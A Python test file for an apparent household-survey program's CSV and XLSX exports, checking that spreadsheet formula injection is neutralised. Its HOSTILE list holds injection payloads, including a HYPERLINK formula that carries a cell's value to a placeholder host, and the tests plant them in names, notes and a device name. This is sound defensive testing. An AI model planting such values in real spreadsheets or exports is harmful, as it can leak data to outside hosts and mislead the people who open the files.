"""No export carries a live formula: names, notes and device names that look like formulas are read back
from every CSV and XLSX as the text they are, and numbers stay numbers."""
from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook
from sqlmodel import Session, select

from server.reports.export_cells import csv_row
from server.program.household_import import template_csv, template_xlsx
from server.models import FundingRequest, Household, OccupationGroup, Survey
from server.reports import exports
from tests.foundation.helpers import sign_in
from tests.sync.helpers import make_area, op, push_ok
from tests.sync.helpers import sign_in as phone_sign_in

HOSTILE = ['=HYPERLINK("http://x?"&A1,"click")', "+1+1", "-2+3", "@SUM(1+1)", "\tcmd", "\r=1+1"]


@pytest.fixture
def hostile_program(program, engine):
    """The program's households A–D carry hostile head names; every survey note, group name and funding request too."""
    with Session(engine) as db:
        for letter, name in zip("ABCD", HOSTILE):
            household = db.get(Household, program.households[letter])
            household.head_name = name
            db.add(household)
        for n, survey in enumerate(db.exec(select(Survey)).all()):
            survey.note = HOSTILE[n % len(HOSTILE)]
            db.add(survey)
        for n, group in enumerate(db.exec(select(OccupationGroup)).all()):
            group.name, group.note = HOSTILE[n % len(HOSTILE)], HOSTILE[(n + 1) % len(HOSTILE)]
            db.add(group)
            db.add(FundingRequest(group_id=group.id, source="department", amount_asked=20_000, status="submitted",
                                  asked_on=dt.date(2027, 1, 10), proposal_file=HOSTILE[n % len(HOSTILE)],
                                  note=HOSTILE[(n + 2) % len(HOSTILE)]))
        db.commit()
    return program


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_cells(content: bytes) -> list[list]:
    """Every cell of every sheet, read as a spreadsheet would (formulas are not evaluated)."""
    book = load_workbook(io.BytesIO(content))
    return [list(row) for sheet in book.worksheets for row in sheet.iter_rows()]


def assert_no_live_formula_in_csv(rows: list[list[str]]) -> list[str]:
    """Every cell starting like a formula is a number; returns the cells with the quote taken off."""
    cells = [c for row in rows for c in row]
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)  # only a number may start so
    return [c[1:] if c.startswith("'") else c for c in cells]


def assert_no_live_formula_in_xlsx(rows: list[list]) -> list:
    cells = [c for row in rows for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    return [c.value for c in cells]


@pytest.mark.parametrize("dataset", exports.ALL_DATASETS)
def test_no_export_carries_a_live_formula_and_values_stay_intact(client, hostile_program, dataset):
    sign_in(client, "root")
    as_csv = client.get(f"/reports/export/{dataset}.csv?year=2570")
    as_xlsx = client.get(f"/reports/export/{dataset}.xlsx?year=2570")
    assert as_csv.status_code == as_xlsx.status_code == 200
    text_values = assert_no_live_formula_in_csv(csv_cells(as_csv.content))
    xlsx_values = assert_no_live_formula_in_xlsx(xlsx_cells(as_xlsx.content))
    if dataset != "indicators":  # the indicators are figures by village: no names or notes
        carried = [h for h in HOSTILE if h in xlsx_values]
        assert carried, "the export should carry the hostile values"
        assert all(h in text_values for h in carried)
    numbers = [v for v in xlsx_values if isinstance(v, (int, float)) and not isinstance(v, bool)]
    assert numbers  # members, incomes, days, counts: still numbers


def test_the_households_export_keeps_each_hostile_name_whole(client, hostile_program):
    sign_in(client, "root")
    rows = csv_cells(client.get("/reports/export/households.csv?year=2570").content)
    head = rows[0].index("หัวหน้าครัวเรือน")
    names = {r[head] for r in rows[1:]}
    assert {"'" + h for h in HOSTILE[:4]} <= names
    members = rows[0].index("จำนวนสมาชิก")
    assert all(r[members].isdigit() for r in rows[1:])


def test_a_negative_number_stays_a_number_and_text_that_is_only_a_number_stays_as_it_is():
    assert csv_row([-5, -2.5, "-5", "+66812345678", "-2+3", "=1"]) == [-5, -2.5, "-5", "+66812345678", "'-2+3",
                                                                       "'=1"]
    content = b"".join(exports.xlsx_chunks(iter([["n", "text"], [-5, "-2+3"], [-2.5, "=1+1"]]), title="t"))
    cells = xlsx_cells(content)
    assert [(c.value, c.data_type) for c in cells[1]] == [(-5, "n"), ("-2+3", "s")]
    assert [(c.value, c.data_type) for c in cells[2]] == [(-2.5, "n"), ("=1+1", "s")]


def test_the_import_templates_carry_no_formula():
    assert_no_live_formula_in_csv(csv_cells(template_csv()))
    assert_no_live_formula_in_xlsx(xlsx_cells(template_xlsx()))


def test_the_audit_csv_neutralises_a_device_named_like_a_formula(client, engine):
    with Session(engine, expire_on_commit=False) as db:
        area = make_area(db)
    phone = phone_sign_in(client, "somchai", HOSTILE[0])
    mine = area.households[0]
    push_ok(client, phone, [op("household", mine.id, {"note": "+1+1"}, base_seq=mine.seq)])
    client.cookies.clear()
    sign_in(client, "boss")
    response = client.get(f"/review/audit?record={mine.id}&format=csv")
    assert response.status_code == 200
    rows = csv_cells(response.content)
    values = assert_no_live_formula_in_csv(rows)
    assert HOSTILE[0] in values
    assert "'" + HOSTILE[0] in [r[2] for r in rows[1:]]
